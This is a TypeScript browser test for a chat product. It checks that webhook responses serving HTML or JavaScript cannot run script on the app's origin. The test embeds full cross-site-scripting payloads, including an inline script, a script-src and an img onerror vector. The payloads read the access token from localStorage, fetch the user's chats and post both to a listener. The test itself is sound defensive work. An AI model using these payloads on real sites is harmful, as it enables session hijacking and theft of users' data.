import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { launchBrowser, SHOTS_DIR, signInPage, startHookTarget, startProduct, type RunningServer, type Tokens } from './support';

/**
 * Issue 9 item 1: a webhook's respond step serving text/html with a <script> on the app's origin.
 * A signed-in visitor opens the webhook URL; the script tries to read the tokens from localStorage,
 * call /api/chats/ as the visitor and send what it got to a listener. Nothing of it may run.
 */
describe('webhook answers cannot run script on the app origin (Chromium)', () => {
  let server: RunningServer;
  let browser: Browser;
  let page: Page;
  let listener: Awaited<ReturnType<typeof startHookTarget>>;
  let tokens: Tokens;

  const shot = async (name: string) => {
    fs.mkdirSync(SHOTS_DIR, { recursive: true });
    await page.screenshot({ path: path.join(SHOTS_DIR, `webhook-xss-${name}.png`), fullPage: true });
  };
  const api = async (method: string, url: string, body?: unknown) => {
    const res = await fetch(server.url + url, {
      method,
      headers: { authorization: `Bearer ${tokens.access_token}`, ...(body ? { 'content-type': 'application/json' } : {}) },
      body: body ? JSON.stringify(body) : undefined,
    });
    return (await res.json()) as Record<string, unknown>;
  };
  /** An active flow whose respond step serves `body` with `contentType`; answers its production URL. */
  const servingFlow = async (name: string, contentType: string, body: string) => {
    const flow = await api('POST', '/api/flows/create', {
      name,
      steps: [
        { step: 1, node_id: 'webhook', action_id: 'webhook_received', params: {} },
        { step: 2, node_id: 'webhook', action_id: 'respond', params: { status: 200, headers: { 'content-type': contentType }, body } },
      ],
    });
    await api('POST', `/api/flows/${flow.flow_id}/activate`, { is_active: true });
    return `${server.url}/webhooks/${flow.flow_id}`;
  };

  beforeAll(async () => {
    listener = await startHookTarget();
    server = await startProduct();
    browser = await launchBrowser();
    page = await browser.newPage({ viewport: { width: 1100, height: 700 }, locale: 'es-MX', timezoneId: 'America/Mexico_City' });
  });

  afterAll(async () => {
    await browser?.close();
    await server?.stop();
    await listener?.close();
  });

  it("runs nothing and reads nothing when a signed-in user opens a webhook that serves HTML with a script", async () => {
    tokens = await signInPage(server, page, 'eva', 'tienda.mx');
    const steal = `
      document.title = 'XSS';
      var token = localStorage.getItem('access_token');
      fetch('/api/chats/', { headers: { authorization: 'Bearer ' + token } })
        .then(function (r) { return r.text(); })
        .then(function (chats) { return fetch('${listener.url}', { method: 'POST', mode: 'no-cors', body: 'token=' + token + '&chats=' + chats }); });`;
    // A second flow serves the same code as JavaScript, for a <script src> on the app's origin.
    const scriptUrl = await servingFlow('Script', 'application/javascript', steal);
    const pageUrl = await servingFlow(
      'Página',
      'text/html',
      `<!doctype html><html><head><title>Pedido recibido</title></head><body>
        <h1>Gracias por tu pedido</h1>
        <script>${steal}</script>
        <script src="${scriptUrl}"></script>
        <img src="/nada.png" onerror="document.title = 'XSS'; fetch('${listener.url}', { method: 'POST', mode: 'no-cors', body: localStorage.getItem('access_token') })">
      </body></html>`,
    );

    const appRequests: string[] = [];
    page.on('request', (r) => {
      if (r.url().includes('/api/') || r.url().startsWith(listener.url)) appRequests.push(r.url());
    });
    const answer = await page.goto(pageUrl);
    await page.waitForLoadState('networkidle');
    await page.getByRole('heading', { name: 'Gracias por tu pedido' }).waitFor();
    await shot('01-webhook-page');

    const csp = answer!.headers()['content-security-policy'] ?? '';
    // The page's own view of its origin and storage (evaluated by the test, not by the page).
    const seen = await page.evaluate(() => {
      let storage: string;
      try {
        storage = `readable (${localStorage.length} keys)`;
      } catch (error) {
        storage = `blocked (${(error as Error).name})`;
      }
      return { title: document.title, origin: window.origin, storage };
    });
    console.log(
      `Webhook XSS in Chromium: 3 script vectors, title "${seen.title}", origin ${seen.origin}, localStorage ${seen.storage}, ` +
        `${appRequests.length} requests to /api or the listener, ${listener.received.length} received by the listener`,
    );
    expect(csp).toMatch(/(^|;)\s*sandbox(;|$)/);
    expect(answer!.headers()['x-content-type-options']).toBe('nosniff');
    expect(seen.title).toBe('Pedido recibido');
    expect(seen.origin).toBe('null');
    expect(seen.storage).toMatch(/^blocked/);
    expect(appRequests).toEqual([]);
    expect(listener.received).toEqual([]);

    // The same visitor's app, under its own strict policy, still works: signed in, nothing refused.
    const refused: string[] = [];
    page.on('console', (m) => {
      if (/Content Security Policy|Refused to/i.test(m.text())) refused.push(m.text());
    });
    await page.goto(server.url + '/chat');
    await page.getByRole('textbox', { name: 'Mensaje para el asistente' }).waitFor();
    await page.waitForLoadState('networkidle');
    await shot('02-app-under-csp');
    expect(refused).toEqual([]);
    // Still signed in (the session may have refreshed its token on load).
    expect(await page.evaluate(() => !!localStorage.getItem('access_token'))).toBe(true);
  });
});
